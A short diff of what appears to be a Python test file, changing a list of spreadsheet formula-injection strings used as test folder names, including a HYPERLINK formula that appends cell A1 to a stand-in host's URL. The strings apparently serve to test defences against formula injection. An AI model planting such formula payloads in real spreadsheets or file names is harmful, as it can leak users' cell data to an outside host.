@@ -424,7 +424,7 @@ removed_by_standard = removed_by_f1 = removed_by_F = held_if_swapped = set(found
 
 HUGE = 'removed_by_standard = "x" * 5_000_000\n'
 
-FORMULA_NAMES = ['=HYPERLINK("http://x.example/?"&A1)', "+1+2", "-2+3", "@SUM(A1)"]
+FORMULA_NAMES = ['=HYPERLINK("x.example")&A1', "+1+2", "-2+3", "@SUM(A1)"]  # folder names
 
 
 def tmp_install(where: Path) -> Path:
